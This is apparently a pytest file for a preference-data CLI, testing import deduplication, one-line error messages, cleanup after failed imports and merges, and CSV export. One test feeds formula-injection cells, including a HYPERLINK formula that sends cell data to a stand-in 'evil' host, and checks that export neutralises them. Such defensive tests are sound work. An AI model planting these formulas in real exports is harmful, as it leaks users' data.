"""Round two, items 3, 7 (import crashes) and 11 (import/merge/annotate/export details):
judgements are attributed by content, user mistakes end in one line naming the
row, and a failed import or merge into a new path leaves no file behind."""

from __future__ import annotations

import csv
import json
import shutil
import sqlite3
from pathlib import Path

import pytest

from reliability._cli import FLIPPED, ROWS, live_judgements_per_annotator, run, write_rows


# ---------------------------------------------------------------- item 3
def test_same_basename_different_content_stays_two_sources(tmp_path: Path, capsys) -> None:
    (tmp_path / "alice").mkdir()
    (tmp_path / "bob").mkdir()
    a = write_rows(tmp_path / "alice" / "labels.jsonl", ROWS)
    b = write_rows(tmp_path / "bob" / "labels.jsonl", FLIPPED)  # opposite votes
    db = tmp_path / "x.db"
    assert run(capsys, "import", "--db", db, a)[0] == 0
    code, out, _ = run(capsys, "import", "--db", db, b)
    assert code == 0 and "4 judgements added" in out and "separate source" in out, out
    counts = live_judgements_per_annotator(db)
    assert len(counts) == 2 and sorted(counts.values()) == [4, 4], counts


def test_same_basename_in_one_command_stays_two_sources(tmp_path: Path, capsys) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    a = write_rows(tmp_path / "a" / "l.jsonl", ROWS)
    b = write_rows(tmp_path / "b" / "l.jsonl", FLIPPED)
    db = tmp_path / "x.db"
    code, out, _ = run(capsys, "import", "--db", db, a, b)
    assert code == 0 and "8 judgements added" in out, out


@pytest.mark.parametrize("copy_name", ["copy.jsonl", "labels (1).jsonl", "sub/labels.jsonl"])
def test_same_content_under_another_name_is_one_source(copy_name: str, tmp_path: Path,
                                                        capsys) -> None:
    a = write_rows(tmp_path / "labels.jsonl", ROWS)
    (tmp_path / "sub").mkdir()
    shutil.copy(a, tmp_path / copy_name)
    db = tmp_path / "x.db"
    assert run(capsys, "import", "--db", db, a)[0] == 0
    code, out, _ = run(capsys, "import", "--db", db, tmp_path / copy_name)
    assert code == 0 and "0 judgements added" in out and "same content" in out, out
    assert live_judgements_per_annotator(db) == {"import:labels.jsonl": 4}


def test_failed_import_does_not_register_its_source(tmp_path: Path, capsys) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    bad = write_rows(tmp_path / "a" / "labels.jsonl", [*ROWS, {"prompt": "x", "chosen": 3}])
    db = tmp_path / "x.db"
    assert run(capsys, "import", "--db", db, write_rows(tmp_path / "other.jsonl", ROWS[:1]))[0] == 0
    assert run(capsys, "import", "--db", db, bad)[0] == 2
    good = write_rows(tmp_path / "b" / "labels.jsonl", FLIPPED)
    code, out, _ = run(capsys, "import", "--db", db, good)
    assert code == 0 and "judgements by import:labels.jsonl\n" in out, out
    assert "separate source" not in out


# ---------------------------------------------------------------- item 7: import crashes
@pytest.mark.parametrize("row, fragment", [
    ({"prompt": [{"role": "user", "content": [{"type": "text", "text": None}]}],
      "chosen": "a", "rejected": "b"}, "row 1"),
    ({"prompt": [{"role": "user", "content": [{"type": "text", "text": 5}]}],
      "chosen": "a", "rejected": "b"}, "row 1"),
    ({"prompt": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "x"}}]}],
      "chosen": "a", "rejected": "b"}, "no text parts"),
    ({"prompt": "\u200b\u200d\ufeff", "chosen": "a", "rejected": "b"}, "invisible"),
    ({"prompt": "p", "chosen": "\u2060 \u200b", "rejected": "b"}, "invisible"),
])
def test_bad_chat_content_is_one_line(row: dict, fragment: str, tmp_path: Path, capsys) -> None:
    code, _, err = run(capsys, "import", "--db", tmp_path / "x.db",
                       write_rows(tmp_path / "d.jsonl", [row]))
    assert code == 2 and fragment in err and err.count("\n") == 1, err


@pytest.mark.parametrize("digits", [400, 5000])
@pytest.mark.parametrize("quoted", [False, True])
def test_huge_scores_are_one_line(digits: int, quoted: bool, tmp_path: Path, capsys) -> None:
    big = "9" * digits
    value = f'"{big}"' if quoted else big
    text = (f'{{"prompt": "p", "response": "a", "score": {value}}}\n'
            '{"prompt": "p", "response": "b", "score": 1}\n')
    (tmp_path / "d.jsonl").write_text(text)
    code, _, err = run(capsys, "import", "--db", tmp_path / "x.db", tmp_path / "d.jsonl")
    assert code == 2 and "row 1" in err and err.count("\n") == 1, err


def test_huge_number_in_a_json_array_is_one_line(tmp_path: Path, capsys) -> None:
    (tmp_path / "d.json").write_text('[{"prompt": "p", "response": "a", "score": ' + "9" * 5000
                                     + '}]')
    code, _, err = run(capsys, "import", "--db", tmp_path / "x.db", tmp_path / "d.json")
    assert code == 2 and "digits" in err, err


# ---------------------------------------------------------------- item 11
def test_tool_call_message_with_null_content_is_accepted(tmp_path: Path, capsys) -> None:
    prompt = [{"role": "user", "content": "weather?"},
              {"role": "assistant", "content": None, "tool_calls": [
                  {"type": "function", "function": {"name": "get_weather",
                                                    "arguments": "{\"city\": \"Oslo\"}"}}]},
              {"role": "tool", "content": "12C"}]
    db = tmp_path / "x.db"
    code, _out, err = run(capsys, "import", "--db", db,
                         write_rows(tmp_path / "d.jsonl", [{"prompt": prompt, "chosen": "a",
                                                            "rejected": "b"}]))
    assert code == 0, err
    stored = sqlite3.connect(db).execute("SELECT prompt FROM comparisons").fetchone()[0]
    assert "get_weather" in stored and "12C" in stored


def test_ratings_that_yield_no_comparison_fail_in_one_line(tmp_path: Path, capsys) -> None:
    rows = [{"prompt": "p", "response": "a", "score": 3}, {"prompt": "p", "response": "b",
                                                            "score": 3}]
    db = tmp_path / "x.db"
    code, _, err = run(capsys, "import", "--db", db, write_rows(tmp_path / "r.jsonl", rows))
    assert code == 2 and "no comparisons" in err
    assert not db.exists()


@pytest.mark.parametrize("name", ["bad.jsonl", "missing.jsonl"])
def test_failed_import_into_a_new_path_leaves_no_database(name: str, tmp_path: Path,
                                                          capsys) -> None:
    write_rows(tmp_path / "bad.jsonl", [{"prompt": "p"}])
    db = tmp_path / "new.db"
    assert run(capsys, "import", "--db", db, tmp_path / name)[0] == 2
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bad.jsonl"]


def test_failed_import_into_an_existing_empty_database_keeps_it(tmp_path: Path, capsys) -> None:
    db = tmp_path / "x.db"
    from duelist.store import Store

    Store.open(db).close()
    assert run(capsys, "import", "--db", db, write_rows(tmp_path / "b.jsonl", [{"p": 1}]))[0] == 2
    assert db.exists()


def test_failed_merge_into_a_new_path_leaves_no_database(tmp_path: Path, capsys) -> None:
    junk = tmp_path / "junk.db"
    junk.write_bytes(b"not a database at all" * 10)
    out = tmp_path / "merged.db"
    assert run(capsys, "merge", junk, "--output", out)[0] == 2
    assert not out.exists() and not Path(f"{out}-wal").exists()


@pytest.mark.parametrize("name", ["   ", "\t", "\u200b", "bob\u202e", "a\x1bb"])
def test_blank_or_invisible_annotator_names_are_refused(name: str, tmp_path: Path,
                                                        capsys) -> None:
    with pytest.raises(SystemExit) as exc:
        run(capsys, "annotate", "--db", tmp_path / "x.db", "--annotator", name)
    assert exc.value.code == 2
    assert not (tmp_path / "x.db").exists()


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)",
                                  "\t=1", "\r=1"])
def test_csv_export_cannot_carry_a_formula(cell: str, tmp_path: Path, capsys) -> None:
    db = tmp_path / "x.db"
    assert run(capsys, "import", "--db", db, write_rows(tmp_path / "d.jsonl", [
        {"prompt": cell, "chosen": cell + " yes", "rejected": "no"}]))[0] == 0
    assert run(capsys, "export", "--db", db, tmp_path / "e.csv")[0] == 0
    with (tmp_path / "e.csv").open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    for col in ("prompt", "chosen"):
        assert rows[0][col].startswith("'"), rows[0]
    assert json.loads(json.dumps(rows))  # still plain text
